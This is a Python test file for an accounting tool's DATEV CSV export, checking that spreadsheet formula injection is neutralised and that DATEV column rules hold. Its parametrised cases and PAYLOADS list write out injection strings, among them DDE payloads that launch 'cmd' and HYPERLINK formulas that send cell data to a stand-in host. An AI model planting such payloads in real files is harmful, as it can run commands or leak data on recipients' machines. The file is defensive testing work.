"""No cell of a DATEV export runs as a spreadsheet formula (OWASP "CSV Injection", issue 14 item 3),
and the file still follows the column rules of DATEV's own Musterdatei.

``check_extf_cells`` is the column check: the same function passes on DATEV's sample and on our exports,
so it states DATEV's rules and not our habits; tests/integration and the seeded fuzz reuse it."""

from __future__ import annotations

import re
from datetime import date
from decimal import Decimal

import pytest
from ledgerlou.formats import datev

from tests.unit.formats.test_datev_export import MUSTER_V13, _export, _header, _row, _sample

TRIGGERS = ("=", "+", "-", "@")
# Columns a Buchungsstapel writer fills (1-based) and DATEV's expression for each (developer.datev.de,
# Buchungsstapel; the Musterdatei writes an Umsatz without decimals too, "64083", hence the optional part).
UMSATZ_RE = re.compile(r"\d{1,10}(,\d{2})?")
ACCOUNT_RE = re.compile(r"\d{1,9}")
BELEGDATUM_RE = re.compile(r"\d{4}")
BELEGFELD_1_RE = re.compile(r"[\w$%\-/]{0,36}")
TEXT_LIMITS = {11: datev.DOCUMENT_FIELD_MAX_LEN, 14: datev.TEXT_MAX_LEN, 20: datev.DOCUMENT_LINK_MAX_LEN}
HEADER_TEXT_LIMITS = {9: datev.CREATED_BY_MAX_LEN, 17: datev.LABEL_MAX_LEN, 31: datev.APPLICATION_INFO_MAX_LEN}


def raw_fields(line: str) -> list[str]:
    """One EXTF line split at the ";" outside double quotes, each field as written (quotes kept)."""
    fields, current, quoted = [], [], False
    for ch in line:
        if ch == '"':
            quoted = not quoted
        if ch == ";" and not quoted:
            fields.append("".join(current))
            current = []
        else:
            current.append(ch)
    fields.append("".join(current))
    return fields


def _unquote(field: str) -> str:
    return field[1:-1].replace('""', '"') if field.startswith('"') else field


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet takes for a formula: a first character TAB/CR or a first non-blank = + - @."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in TRIGGERS


def check_extf_cells(data: bytes, encoding: str) -> list[list[str]]:
    """Assert DATEV's column rules on every booking line of an EXTF Buchungsstapel and that no cell of the
    file (header, headings, rows) runs as a formula; answer the rows' cells, unquoted."""
    lines = [line for line in data.decode(encoding).removeprefix("\ufeff").splitlines() if line]
    header, headings, bookings = raw_fields(lines[0]), raw_fields(lines[1]), [raw_fields(x) for x in lines[2:]]
    assert header[0] == '"EXTF"' and header[3] == '"Buchungsstapel"'
    for number, limit in HEADER_TEXT_LIMITS.items():
        field = header[number - 1]
        assert field.startswith('"') and field.endswith('"'), (number, field)
        assert len(_unquote(field)) <= limit, (number, field)
    cells: list[list[str]] = []
    for row in bookings:
        assert len(row) == len(headings), row
        assert UMSATZ_RE.fullmatch(row[0]), row[0]  # unquoted, unsigned: a negative amount is never text
        assert row[1] in ('"S"', '"H"'), row[1]
        assert ACCOUNT_RE.fullmatch(row[6]) and ACCOUNT_RE.fullmatch(row[7]), row[6:8]
        assert BELEGDATUM_RE.fullmatch(row[9]), row[9]
        for number, limit in TEXT_LIMITS.items():
            field = row[number - 1]
            assert field.startswith('"') and field.endswith('"'), (number, field)
            assert len(_unquote(field)) <= limit, (number, field)
        assert BELEGFELD_1_RE.fullmatch(_unquote(row[10])), row[10]
        cells.append([_unquote(f) for f in row])
    for line in (header, headings, *bookings):
        for field in line:
            assert not runs_as_formula(_unquote(field)), field
    return cells


# --- the neutraliser -------------------------------------------------------------------------


@pytest.mark.parametrize(("given", "expected"), [
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://x.example/?"&A1;"Beleg")', '\'=HYPERLINK("http://x.example/?"&A1;"Beleg")'),
    ("+49 30 1234", "'+49 30 1234"),
    ("-2+3", "'-2+3"),
    ("-5,00 Gutschrift", "'-5,00 Gutschrift"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),  # TAB and CR are OWASP triggers themselves …
    ("\r=1+2", "'\r=1+2"),
    ("\t", "'\t"),
    ("  =1+2", "'  =1+2"),  # … and blanks before a trigger do not stop a spreadsheet
    ("\xa0@x", "'\xa0@x"),
    ("", ""),
    ("'=1+2", "'=1+2"),  # already marked as text: unchanged
    ("Miete = 500 + NK", "Miete = 500 + NK"),  # a trigger inside the text is harmless
    ("Müller GmbH", "Müller GmbH"),
    ("100", "100"),
    ("–5 Gutschrift", "–5 Gutschrift"),  # en dash (cp1252 0x96) is no trigger
])
def test_given_a_cell_when_neutralised_then_only_formula_starts_get_a_quote(given: str, expected: str) -> None:
    # When neutralised with room to spare
    out = datev.neutralise_formula(given, 200)
    # Then formula starts are marked as text, everything else is unchanged, and a second pass changes nothing
    assert out == expected
    assert datev.neutralise_formula(out, 200) == out


def test_given_a_trigger_cell_at_the_length_limit_then_the_quote_counts_and_the_end_is_cut() -> None:
    # Given a Buchungstext of exactly 60 characters that starts with "="
    text = "=" + "x" * (datev.TEXT_MAX_LEN - 1)
    # When neutralised to DATEV's 60
    out = datev.neutralise_formula(text, datev.TEXT_MAX_LEN)
    # Then the quote is in front and the field is still 60 characters (the last one gave way)
    assert out == "'=" + "x" * (datev.TEXT_MAX_LEN - 2) and len(out) == datev.TEXT_MAX_LEN


@pytest.mark.parametrize(("given", "expected"), [
    ("＝1+1", "'=1+1"),  # full-width forms become ASCII in cp1252 (NFKC), so they are caught after it
    ("＋49", "'+49"),
    ("－5", "'-5"),
    ("＠x", "'@x"),
    ("\u22125", "'-5"),  # MINUS SIGN → "-"
    ("\t=1", "' =1"),  # TAB/CR become blanks in the one-line cp1252 text, a blank before "=" still counts
    ("\r\n+1", "'  +1"),
])
def test_given_lookalike_triggers_when_written_as_datev_text_then_they_are_neutralised(
        given: str, expected: str) -> None:
    assert datev.neutralise_formula(datev.to_cp1252_text(given), 60) == expected


@pytest.mark.parametrize(("given", "expected"), [
    ("=1+2", "1-2"),
    ("-5", "5"),
    ("+49301234", "49301234"),
    ("@A1", "A1"),
    ("\t=A1", "A1"),
    (" -x", "x"),
    ("---", ""),
    ("RE-4711", "RE-4711"),  # a "-" inside stays
    ("$100", "$100"),
    ("=" + "A" * 40, "A" * 36),  # dropped before the cut: still 36 characters of the reference
])
def test_given_a_belegfeld_1_starting_like_a_formula_then_its_leading_dashes_go(given: str, expected: str) -> None:
    # Belegfeld 1's DATEV charset ([\w$%-/]) has no quote; after it only "-" can start a formula
    out = datev.sanitize_document_field(given)
    assert out == expected
    assert BELEGFELD_1_RE.fullmatch(out) and not runs_as_formula(out)
    assert datev.sanitize_document_field(out) == out  # deterministic: an invoice and its payment still match


@pytest.mark.parametrize("link", ["=HYPERLINK(\"http://x.example\")", "+cmd", " @x", "-1"])
def test_given_a_beleglink_starting_like_a_formula_then_the_row_is_refused(link: str) -> None:
    # A link is an address: it is refused rather than repaired (as for its length and charset)
    with pytest.raises(ValueError, match="document_link must not start with"):
        _row(document_link=link)


# --- the whole file against DATEV's column rules ---------------------------------------------


def test_given_datevs_musterdatei_then_the_column_check_passes() -> None:
    # The check states DATEV's rules: DATEV's own file meets it (54 bookings)
    assert len(check_extf_cells(_sample(MUSTER_V13), "utf-8")) == 54


PAYLOADS = ['=HYPERLINK("http://x.example/?d="&A1;"Beleg")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", " =1+2", "＝1+1", "\u22122+3", "=" + "x" * 80,
            "Büromaterial", "-", "'=1"]


def test_given_formula_payloads_in_every_text_field_when_exported_then_no_cell_runs_and_datevs_rules_hold() -> None:
    # Given a batch whose label, exporter and application info, and every row's Buchungstext and Belegfeld 1,
    # carry a formula payload, with amounts that would look like negative numbers if they were ever signed
    header = _header(label="=cmd|' /C calc'!A0", created_by="+LedgerLou", application_info="@x",
                     date_to=date(2024, 12, 31))
    rows = [_row(text=p, document_field_1=p, amount=Decimal(f"{i + 1}.05"), debit_credit="H" if i % 2 else "S")
            for i, p in enumerate(PAYLOADS)]
    # When exported
    data = _export(rows, header)
    # Then the file meets DATEV's column rules, lengths included, and no cell of it runs as a formula
    cells = check_extf_cells(data, datev.ENCODING)
    text_col, beleg_col = datev.COLUMN_HEADINGS.index("Buchungstext"), datev.COLUMN_HEADINGS.index("Belegfeld 1")
    for payload, row, written in zip(PAYLOADS, rows, cells, strict=True):
        mapped = datev.to_cp1252_text(payload)
        # … every text that started like a formula now starts with "'", the rest of it kept up to 60 characters
        if runs_as_formula(mapped):
            assert written[text_col] == ("'" + mapped)[: datev.TEXT_MAX_LEN]
        else:
            assert written[text_col] == mapped[: datev.TEXT_MAX_LEN]
        assert written[beleg_col] == datev.sanitize_document_field(payload)
        # … and the numeric columns are exactly what they were: unsigned Umsatz with S/H, accounts, DDMM
        assert written[0] == f"{row.amount:f}".replace(".", ",")
        assert written[1] == row.debit_credit and written[6:8] == ["10100", "8400"] and written[9] == "1501"
    header_fields = [_unquote(f) for f in raw_fields(data.decode(datev.ENCODING).split("\r\n")[0])]
    assert header_fields[8] == "'+LedgerLou" and header_fields[16] == "'=cmd|' /C calc'!A0"
    assert header_fields[30] == "'@x"


def test_given_a_header_label_at_its_limit_starting_with_a_trigger_then_it_stays_within_30() -> None:
    header = _header(label="=" + "L" * (datev.LABEL_MAX_LEN - 1))
    fields = [_unquote(f) for f in raw_fields(_export([], header).decode(datev.ENCODING).split("\r\n")[0])]
    assert fields[16] == "'=" + "L" * (datev.LABEL_MAX_LEN - 2)
